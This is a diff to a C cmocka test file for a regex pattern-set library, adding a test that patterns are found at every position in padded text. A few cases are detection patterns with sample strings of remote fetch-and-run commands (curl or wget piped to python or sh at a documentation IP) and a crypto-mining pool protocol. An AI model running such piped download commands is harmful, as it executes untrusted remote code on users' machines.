@@ -72,6 +72,57 @@ static void test_ends(void **state)
 	pattern_set_free(set);
 }
 
+/* Wherever it stands in a text of whatever length; and nothing is found where it is not. */
+static void test_places(void **state)
+{
+	enum { LONGEST = 300 };
+	static const struct {
+		const char *expression, *text;
+	} cases[] = {
+		{"4", "4"},
+		{"\\x2e", "."},
+		{"\\xc3\\xa9", "\xc3\xa9"},
+		{"4.*", "4"},
+		{"4..*5", "4x5"},
+		{"4[^x]*5", "4yy5"},
+		{"a.*b", "a is b"},
+		{"(?:4|4y)", "4"},
+		{"[4-6]", "5"},
+		{"\\A.*4", "4"},
+		{"curl.*\\|\\s*python", "curl http://192.0.2.1:8000/x 2>&1 | python"},
+		{"wget.*sh", "wget http://192.0.2.1/x -O- | sh"},
+		{"stratum\\x2btcp", "stratum+tcp"},
+	};
+
+	for (size_t i = 0; i < 2 * sizeof(cases) / sizeof(*cases); i++) {
+		const struct str text = str_from(cases[i / 2].text);
+		const struct pattern patterns[] = {
+			{cases[i / 2].expression, PATTERN_DOTALL | (i % 2 ? PATTERN_NOCASE : 0), 0},
+			{"qqq", 0, 1},
+		};
+		struct pattern_set *set = NULL;
+		struct pattern_scratch *scratch = NULL;
+		assert_int_equal(pattern_set_new(patterns, 1 + i % 2, &set, NULL, NULL), 0);
+		assert_int_equal(pattern_scratch_grow(&scratch, set), 0);
+		for (size_t len = 0; len < LONGEST; len++)
+			for (size_t at = 0; at + text.len <= len || at == 0; at++) {
+				char around[LONGEST];
+				uint32_t found = 0;
+				const bool is_there = at + text.len <= len;
+				memset(around, 'z', len);
+				if (is_there)
+					memcpy(around + at, text.at, text.len);
+				pattern_set_match(set, scratch, str_of(around, len), add_id,
+						  &found);
+				if (found != is_there)
+					fail_msg("%s at %zu of %zu: %u", patterns[0].expression, at,
+						 len, found);
+			}
+		pattern_scratch_free(scratch);
+		pattern_set_free(set);
+	}
+}
+
 /* Each byte of a literal stands for itself. */
 static void test_literal(void **state)
 {
@@ -128,9 +179,9 @@ static void test_refused(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_match),	cmocka_unit_test(test_ends),
-		cmocka_unit_test(test_literal), cmocka_unit_test(test_least),
-		cmocka_unit_test(test_refused),
+		cmocka_unit_test(test_match),  cmocka_unit_test(test_ends),
+		cmocka_unit_test(test_places), cmocka_unit_test(test_literal),
+		cmocka_unit_test(test_least),  cmocka_unit_test(test_refused),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
